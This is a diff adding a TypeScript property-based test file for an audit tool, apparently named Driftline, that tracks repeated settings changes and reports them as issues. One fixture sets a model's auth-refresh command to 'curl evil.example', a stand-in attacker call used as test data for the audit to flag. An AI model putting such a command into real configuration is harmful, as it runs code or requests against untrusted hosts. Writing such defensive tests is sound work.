@@ -1,0 +1,122 @@
+// Several open events of one subject: what their one issue says of each, and how they are counted.
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { reaches } from "../../src/model/severity.ts";
+import { runs } from "../support/runs.ts";
+import { hourly, judge, policy, ada, bo } from "../support/history.ts";
+import { World } from "./world.ts";
+
+const model = (cloudAuthRefresh: string) => ({
+  customModels: [{ id: "custom:x", model: "m", hostedProvider: { cloudAuthRefresh } }],
+});
+const empty = { customModels: [{ id: "custom:x", model: "m" }] };
+const by = (who: object, command: string) => ({ by: who, set: model(command) });
+const history = hourly(empty, by(bo, "aws sso login"), by(ada, "curl evil.example"), by(bo, "aws sso login"));
+const rule = "levers/command";
+const rules = "id: p\nsettings: { maxAutonomyLevel: { unset: pass, atMost: low } }\n";
+const accepting = `${rules}exceptions: [{ rule: ${rule}, revision: 2, owner: o@corp.example, reason: known, from: 2026-01-01 }]\n`;
+/** The audit after `count` revisions. */
+const after = async (count: number, policies = rules) =>
+  judge(history.slice(0, count), await policy(policies), {
+    hours: count - 0.5,
+    builtin: { "integrity/unknown-value": "off" },
+  });
+
+describe("a further event of a subject", () => {
+  it("is told once more, and is not called fixed and opened again", async () => {
+    const world = new World();
+    world.run(await after(2));
+    const plan = world.plan(await after(3));
+    world.carry(plan.operations);
+    expect(plan.opened).toBe(1);
+    expect(world.issues).toMatchObject([
+      {
+        state: "open",
+        comments: [expect.stringMatching(/\*\*Once more:\*\* `ada@corp.example` made revision 3 .* was replaced\./)],
+      },
+    ]);
+    expect(world.run(await after(3))).toEqual([]);
+  });
+
+  it("that is put back leaves the earlier one open, which is not new", async () => {
+    const world = new World();
+    world.run(await after(2));
+    world.run(await after(3));
+    const plan = world.plan(await after(4));
+    world.carry(plan.operations);
+    expect(plan.opened).toBe(0);
+    const [issue] = world.issues;
+    expect(issue).toMatchObject({ state: "open", title: expect.stringContaining("was set") });
+    expect(issue!.comments.at(-1)).toMatch(
+      /\*\*No longer open:\*\* `ada@corp.example` made revision 3 .*; closed by `bo@corp.example` in revision 4 .* Still open: `bo@corp.example` made revision 2 /,
+    );
+    expect(world.run(await after(4))).toEqual([]);
+  });
+
+  it("is not said to have lost the exception of the event before it", async () => {
+    const world = new World();
+    world.run(await after(2));
+    world.run(await after(2, accepting));
+    const plan = world.plan(await after(3, accepting));
+    world.carry(plan.operations);
+    expect(plan.opened).toBe(1);
+    expect(world.issues).toMatchObject([
+      { state: "open", comments: [/Accepted/, /Once more/].map((word) => expect.stringMatching(word)) },
+    ]);
+    const last = world.issues[0]!.comments.at(-1);
+    expect(last).not.toMatch(/No longer accepted/);
+  });
+
+  it("is counted and told in the issue for all findings", async () => {
+    const world = new World({ mode: "single" });
+    world.run(await after(2));
+    const report = await after(3);
+    const plan = world.plan(report);
+    world.carry(plan.operations);
+    expect(plan.opened).toBe(1);
+    expect(report.summary.open.high).toBe(2);
+    expect(world.issues).toMatchObject([
+      {
+        title: "Driftline: corp, 2 open findings",
+        comments: [expect.stringMatching(/\*\*1 finding opened:\*\*\n\n- high: .*`ada@corp.example` made revision 3/)],
+      },
+    ]);
+    world.run(await after(4));
+    expect(world.issues).toMatchObject([{ title: "Driftline: corp, 1 open finding" }]);
+    expect(world.issues[0]!.comments.at(-1)).not.toMatch(/opened again/);
+    expect(world.run(await after(4))).toEqual([]);
+  });
+});
+
+describe("events of one subject, whatever order they come and go in", () => {
+  const commands = fc.array(fc.constantFrom("a", "b", "c"), { minLength: 2, maxLength: 9 });
+  const loaded = policy(rules);
+  const builtin = { "integrity/unknown-value": "off" } as const;
+
+  it.each(["per-finding", "single"] as const)("are counted and told once: %s", async (mode) => {
+    await fc.assert(
+      fc.asyncProperty(commands, fc.array(fc.integer({ min: 1, max: 3 }), { maxLength: 6 }), async (values, steps) => {
+        const changes = hourly(empty, ...values.map((value, i) => by(i % 2 === 0 ? bo : ada, value)));
+        const world = new World({ mode });
+        let before = new Set<string>();
+        let count = 1;
+        for (const step of [0, ...steps]) {
+          count = Math.min(count + step, changes.length);
+          const report = await judge(changes.slice(0, count), await loaded, { hours: count - 0.5, builtin });
+          const open = report.findings.filter(({ status, severity }) => status === "open" && reaches(severity, "low"));
+          const plan = world.plan(report);
+          world.carry(plan.operations);
+          expect(plan.opened).toBe(open.filter(({ id }) => !before.has(id)).length);
+          const isThere = ({ state, title }: (typeof world.issues)[number]) =>
+            state === "open" && title.startsWith("Driftline");
+          if (mode === "single" && open.length > 0)
+            expect(world.issues.find(isThere)?.title).toMatch(new RegExp(` ${open.length} open finding`));
+          expect(world.run(report)).toEqual([]);
+          before = new Set(open.map(({ id }) => id));
+        }
+        for (const { comments } of world.issues) expect(new Set(comments).size).toBe(comments.length);
+      }),
+      { numRuns: runs(40) },
+    );
+  });
+});
